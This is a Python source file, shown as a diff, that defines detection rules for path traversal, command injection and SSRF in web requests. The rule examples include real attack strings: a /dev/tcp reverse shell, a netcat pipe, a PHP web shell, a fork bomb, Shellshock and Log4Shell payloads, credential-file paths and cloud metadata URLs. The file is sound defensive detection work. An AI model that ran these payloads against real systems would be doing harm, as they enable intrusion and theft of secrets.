@@ -1,0 +1,271 @@
+"""Web-attack signals that reach the server's files, shell and internal network."""
+
+from __future__ import annotations
+
+from bastion.core.rules import Rule
+from bastion.core.types import Severity
+
+TRAVERSAL = "webattack.path_traversal"
+CMDI = "webattack.cmdi"
+SSRF = "webattack.ssrf"
+
+_S = Severity.HIGH  # the detector sets each finding's severity from the score
+
+# Commands that are also everyday English words; after a separator they need more context.
+_ENGLISH = (
+    "time more less type find set make head host top mail service source alias fetch tee halt id"
+    " exec eval"
+)
+_UNIX = (
+    r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat"
+    r"|ps|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|ftp|tftp|bash|sh|zsh|ksh|csh|dash|python\d?"
+    r"|perl|ruby|php|node|lua|ping|nslookup|dig|host|traceroute|rm|mv|cp|chmod|chown|touch|mkdir"
+    r"|echo|printf|sleep|kill|killall|pkill|env|export|set|unset|sudo|su|crontab|base64|xxd|od"
+    r"|powershell|pwsh|cmd|net|certutil|bitsadmin|reg|wmic|systeminfo|tasklist|taskkill|type|find"
+    r"|grep|awk|sed|vi|vim|nano|dd|tar|zip|unzip|gzip|gcc|cc|make|eval|exec|time|timeout|nohup"
+    r"|xargs|tee|mail|sendmail|useradd|passwd|shutdown|reboot|halt|mount|apt|aptitude|apt-get|yum"
+    r"|dnf|rpm|dpkg|pip|npm|git|docker|kubectl|systemctl|service|chroot|strace|gdb|rmt|top|ansible"
+    r"|ansible-pull|cpulimit|alias|source|awk|openssl|jq|lwp-download|fetch|aria2c|busybox)"
+)
+
+_PLAIN = "(?:" + "|".join(w for w in _UNIX[3:-1].split("|") if w not in _ENGLISH.split()) + ")"
+_WORDY = "(?:" + "|".join(_ENGLISH.split()) + r")\s+[-/$~.'\"]"
+
+
+# --- path traversal ----------------------------------------------------------------------
+
+TRAVERSAL_DOT_DOT = Rule(
+    id="traversal.dot_dot",
+    code=TRAVERSAL,
+    pattern=(
+        r"(?:\.\.\.?[\\/;]|[\\/]\.\.\.?(?:[\\/;]|$)|\.\.(?:%2f|%5c|%c0%af|%c1%9c|%252f|%255c)"
+        r"|%2e%2e|%252e|\.%2e|%2e\.|0x2e0x2e|\.\.\\|\.\.;)"
+    ),
+    severity=_S,
+    score=0.5,
+    message="parent-directory sequence",
+    examples=("../../etc/passwd", "..\\windows", "%2e%2e%2f", "..;/"),
+    counterexamples=("wait... what?", "version 1..3"),
+)
+
+TRAVERSAL_CLIMB = Rule(
+    id="traversal.climb",
+    code=TRAVERSAL,
+    pattern=(
+        r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.?[\\/;][\w.%~]|\.\.(?:%00|\x00)"
+        r"|(?i)(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e|%uff0e|0x2e){2}"
+        r"|(?i)\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%c1%1c|%e0%80%af|%u2215|%u2216|0x5c|0x2f)"
+        r"|(?i)0x5c0x2e|(?i)\\\.\.|\.\.;|(?:^|[\\/=])\.{4,}[\\/]"
+    ),
+    severity=_S,
+    score=0.75,
+    message="climbing out of the directory: repeated, leading or encoded parent steps",
+    examples=(
+        "../../etc/passwd",
+        "..%252f..%252f",
+        "%c0%ae%c0%ae/",
+        "file=../x",
+        "..;/",
+        "....//WEB-INF/web.xml",
+    ),
+    counterexamples=("see docs/../README for details", "wait... what?", '<a href="../">up</a>'),
+)
+
+TRAVERSAL_SENSITIVE_FILE = Rule(
+    id="traversal.sensitive_file",
+    code=TRAVERSAL,
+    pattern=(
+        r"(?i)/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab|apache2|nginx|httpd|ssh"
+        r"|mysql|\[|\*|\?)|(?i)/proc/(?:self|\d+|sys|version|cpuinfo)|(?i)/root/\.|(?i)/\.ssh/"
+        r"|(?i)\bid_rsa\b|(?i)/\.aws/credentials|(?i)\bwin\.ini\b|(?i)\bboot\.ini\b"
+        r"|(?i)windows[\\/]system32|(?i)\bweb\.config\b|(?i)/var/log/|(?i)\.htaccess\b"
+        r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/etc/[a-z.\[\]*?!]+[a-z]"
+        r"|(?i)/(?:e|\[e[^\]]*\])(?:t|\[t[^\]]*\]|\*|\?)(?:c|\*|\?)"
+    ),
+    severity=_S,
+    score=0.6,
+    message="sensitive system file path",
+    examples=("/etc/passwd", "C:\\windows\\system32", "cat /root/.aws/credentials"),
+    counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
+)
+
+TRAVERSAL_SECRET_FILE = Rule(
+    id="traversal.secret_file",
+    code=TRAVERSAL,
+    # Files that hold credentials or a process's secrets; an argument naming one is the goal
+    # of a traversal whether or not it climbs to get there.
+    pattern=(
+        r"(?i)/etc/(?:passwd|shadow|gshadow|sudoers|master\.passwd|security/passwd)\b"
+        r"|(?i)/proc/(?:self|\d+)/(?:environ|cmdline|maps|mem|fd/)|(?i)\b(?:boot|win|system)\.ini\b"
+        r"|(?i)system32[\\/]+config[\\/]+(?:sam|system|security)\b|(?i)/\.aws/credentials\b"
+        r"|(?i)\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w]|\.[^p])|(?i)/\.ssh/authorized_keys\b"
+        r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/\.(?:bash|zsh|mysql)_history\b"
+        r"|(?i)/\.git/config\b|(?i)/\.env(?:$|[^\w.])|(?i)\bweb-inf[\\/]+web\.xml\b"
+        r"|(?i)system32[\\/]+drivers[\\/]+etc[\\/]+hosts\b"
+        r"|(?i)/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log\b"
+    ),
+    severity=_S,
+    score=0.75,
+    message="credential or secret-holding system file",
+    examples=(
+        "/etc/passwd",
+        "/etc/shadow\x00",
+        "/proc/self/environ",
+        "C:\\boot.ini",
+        "~/.ssh/id_rsa",
+        "/var/www/.env",
+    ),
+    counterexamples=("how do I reset my passwd", "~/.ssh/id_rsa.pub", "/srv/app/.envrc"),
+)
+
+TRAVERSAL_SCHEME = Rule(
+    id="traversal.scheme",
+    code=TRAVERSAL,
+    pattern=r"(?i)\bfile:/|\b(?:php|zip|phar|expect|glob|jar|netdoc|gopher|dict)://",
+    severity=_S,
+    score=0.75,
+    message="local file or wrapper URL scheme",
+    examples=("file:///etc/passwd", "php://filter/resource=index.php"),
+    counterexamples=("save the file to disk", "https://example.com"),
+)
+
+
+# --- command injection -------------------------------------------------------------------
+
+CMDI_SEPARATOR_COMMAND = Rule(
+    id="cmdi.separator_command",
+    code=CMDI,
+    pattern=(
+        rf"(?:[;&|`\n]|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?(?:{_PLAIN}(?:[\s;&|`<>$]|$)|{_WORDY})"
+        rf"|\$\(\s*[a-z]|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
+    ),
+    severity=_S,
+    score=0.85,
+    message="command after a shell separator",
+    examples=("x; cat /etc/passwd", "a && whoami", "$(id)", "`uname -a`", "|nc 1.2.3.4 80"),
+    counterexamples=("milk; bread; cheese", "Tom & Jerry", "hello; time he came"),
+)
+
+CMDI_SHELL_SYNTAX = Rule(
+    id="cmdi.shell_syntax",
+    code=CMDI,
+    pattern=(
+        r"\$\{?IFS\}?|\$\{[a-z_]*\}|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
+        r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
+        r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
+        r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
+        r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
+        r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
+        r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
+        r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
+        r"|(?i)\{\s*jndi\s*:|(?i)\$\{\s*(?:lower|upper|env|sys|date|::-)[\s:]"
+    ),
+    severity=_S,
+    score=0.7,
+    message="shell metacharacter syntax",
+    examples=(
+        "cat${IFS}/etc/passwd",
+        "{cat,/etc/passwd}",
+        "bash -i >& /dev/tcp/1.2.3.4/8080",
+        ":(){ :|:& };:",
+        "() { :; }; echo x",
+        "diff <(cat a) b",
+        "${jndi:ldap://x.example/a}",
+        "${${lower:j}ndi:rmi://x.example/a}",
+    ),
+    counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }", "x <(y)"),
+)
+
+CMDI_WINDOWS_BATCH = Rule(
+    id="cmdi.windows_batch",
+    code=CMDI,
+    pattern=(
+        r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
+        r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
+        r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
+        r"\b|%comspec%|start\s+/b\b)"
+    ),
+    severity=_S,
+    score=0.8,
+    message="Windows batch control flow",
+    examples=(
+        'IF EXIST "temp.txt" ECHO found',
+        "& FOR %@ IN (a,b,c) DO cmd",
+        "IF 2 GEQ 15 x",
+        'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
+        "& FOR %/ IN (a,b,c) DO cmd",
+        'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"',
+    ),
+    counterexamples=("if you exist, reply", "for the win"),
+)
+
+CMDI_SERVER_SIDE = Rule(
+    id="cmdi.server_side",
+    code=CMDI,
+    # Commands run by the server itself: server-side includes, PHP's process functions fed
+    # from the request, and PHP's `${...}` interpolation calling a function.
+    pattern=(
+        r"(?i)<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\b"
+        r"|(?i)\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\(\s*(?:\$_"
+        r"(?:get|post|request|cookie|server)\b|['\"]?(?:id|ls|whoami|cat|uname|dir|pwd|nc"
+        r"|wget|curl|bash|sh|ping|nslookup)\b)|(?i)\$\{\s*@?(?:system|print|eval|exec"
+        r"|phpinfo|passthru|shell_exec)\s*\("
+    ),
+    severity=_S,
+    score=0.8,
+    message="command run by the server (SSI directive, PHP process call)",
+    examples=(
+        '<!--#exec cmd="ls"-->',
+        "<?php system($_GET['cmd']); ?>",
+        "{${system(id)}}",
+        "${@print(chr(122))}",
+    ),
+    counterexamples=("<!-- #main content -->", "the system (id card) office", "${name}"),
+)
+
+CMDI_LEADING_COMMAND = Rule(
+    id="cmdi.leading_command",
+    code=CMDI,
+    pattern=(
+        rf"(?i)^\s*[;&|`'\"{{(]*\s*(?:/(?:usr/)?s?bin/)?{_UNIX}(?:\s+-{{1,2}}[a-z]|\s+['\"/~.$]"
+        rf"|\s+\w+\s+\w+\s*$|\s*$|\s*[;&|<>`]|\s*\()"
+    ),
+    severity=_S,
+    score=0.55,
+    message="field starts with a shell command",
+    examples=("ls foo bar", "cat /etc/hosts", ";aptitude", "whoami"),
+    counterexamples=("catalog number 5", "time to go home now please"),
+)
+
+
+# --- SSRF --------------------------------------------------------------------------------
+
+SSRF_INTERNAL_HOST = Rule(
+    id="ssrf.internal_host",
+    code=SSRF,
+    pattern=(
+        r"(?i)\b[a-z][a-z0-9+.-]*://(?:[^/@\s]*@)?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}"
+        r"|0\.0\.0\.0|0+(?:[:/]|$)|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}"
+        r"|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|169\.254\.\d{1,3}\.\d{1,3}"
+        r"|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.\d{1,3}\.\d{1,3}"
+        r"|metadata\.google\.internal|metadata(?:[:/]|$)|instance-data|[\w.-]*\.internal\b"
+        r"|[\w.-]*\.local\b|[\w.-]*\.localhost\b|\[(?:::1?|0*:0*:0*:0*:0*:0*:0*:0*1|::ffff:[\d.:a-f]+"
+        r"|f[cd][0-9a-f]{2}:[0-9a-f:]*|fe[89ab][0-9a-f]:[0-9a-f:%\w]*)\]"
+        r"|\d{8,10}(?:[:/]|$)|0x[0-9a-f]{8}(?:[:/]|$)|0x[0-9a-f]{1,2}\.|0[0-7]{1,3}\.[0-7.]+"
+        r"|\d{1,3}\.\d{1,3}\.\d{1,5}(?:[:/]|$)|\d{1,3}\.\d{1,8}(?:[:/]|$))"
+    ),
+    severity=_S,
+    score=0.8,
+    message="URL host is loopback, private, link-local or a cloud metadata service",
+    examples=(
+        "http://169.254.169.254/latest/meta-data/",
+        "http://metadata.google.internal/computeMetadata/v1/",
+        "http://127.0.0.1:8080/admin",
+        "http://[::1]/",
+        "http://2130706433/",
+        "http://0x7f000001/",
+        "gopher://10.0.0.5:6379/_",
+        "http://[fd00::1]/",
+    ),
+    counterexamples=("https://example.com/page", "http://8.8.8.8/", "see 10.0.0.1 in the docs"),
+)
